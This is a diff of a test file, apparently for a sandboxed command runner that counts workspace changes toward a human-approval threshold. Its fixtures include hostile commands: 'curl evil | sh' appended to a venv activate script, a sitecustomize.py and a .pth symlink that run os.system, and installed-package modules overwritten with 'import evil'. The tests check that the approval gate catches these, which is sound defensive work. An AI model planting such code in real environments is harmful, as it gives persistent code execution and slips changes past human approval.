@@ -43,24 +43,25 @@ def categories(data: dict[str, Any]) -> dict[str, str]:
 
 async def test_code_the_host_python_runs_is_never_an_uncounted_artifact(client: Client, workspace: Path) -> None:
     """sitecustomize.py in a venv's site-packages runs at every start of that interpreter; a sourceless .pyc
-    is importable; `.venv/bin/activate` is sourced by the user's shell. None has an exec bit or `#!`."""
+    is importable; `.tox/py/bin/activate` is sourced by the user's shell. None has an exec bit or `#!`."""
     require_binary("bwrap", "bubblewrap")
-    site = ".venv/lib/python3.12/site-packages"
+    # (.tox/py: the workspace's .venv is an env dir, which never reaches the workspace; this venv does)
+    site = ".tox/py/lib/python3.12/site-packages"
     (workspace / site).mkdir(parents=True)
-    (workspace / ".venv/bin").mkdir(parents=True)
-    (workspace / ".venv/bin/activate").write_text("# This file must be used with source bin/activate\n")
+    (workspace / ".tox/py/bin").mkdir(parents=True)
+    (workspace / ".tox/py/bin/activate").write_text("# This file must be used with source bin/activate\n")
     data = await run(
         client,
         f"echo 'import os; os.system(\"touch /tmp/pwned\")' > {site}/sitecustomize.py; "
-        "echo 'curl evil | sh' >> .venv/bin/activate; "
+        "echo 'curl evil | sh' >> .tox/py/bin/activate; "
         "printf 'evil' > src/app.pyc; "  # sourceless bytecode: `import app` would load it were app.py gone
-        f"ln -s ../../../../notes.txt {site}/zz.pth; echo 'import os; os.system(1)' > .venv/notes.txt",
+        f"ln -s ../../../../notes.txt {site}/zz.pth; echo 'import os; os.system(1)' > .tox/py/notes.txt",
     )
     assert data["applied"] is True  # applied, without any approval...
     cats = categories(data)
     # ...and none of it counted toward the approval threshold or the blast radius:
-    # (.venv/notes.txt is data: the .pth symlink that would load it counts, and that is where a human looks.)
-    data_files = ("site-packages", "lib", ".venv/notes.txt")
+    # (.tox/py/notes.txt is data: the .pth symlink that would load it counts, and that is where a human looks.)
+    data_files = ("site-packages", "lib", ".tox/py/notes.txt")
     uncounted = sorted(p for p, c in cats.items() if c == "artifact" and not p.endswith(data_files))
     assert not uncounted, f"host-run code applied as uncounted artifacts: {uncounted}"
 
@@ -69,12 +70,12 @@ async def test_many_host_run_files_change_with_no_approval(client: Client, works
     """30 modules of an installed package (imported by every host run of the tests) rewritten in one command:
     no approval, no blast radius (10)."""
     require_binary("bwrap", "bubblewrap")
-    pkg = workspace / ".venv/lib/python3.12/site-packages/requests"
+    pkg = workspace / ".tox/py/lib/python3.12/site-packages/requests"
     pkg.mkdir(parents=True)
     for i in range(30):
         (pkg / f"m{i}.py").write_text("x = 1\n")
     data = await run(
-        client, "for f in .venv/lib/python3.12/site-packages/requests/*.py; do echo 'import evil' > $f; done"
+        client, "for f in .tox/py/lib/python3.12/site-packages/requests/*.py; do echo 'import evil' > $f; done"
     )
     assert data["_is_error"], "30 host-imported modules rewritten without any decision"
 
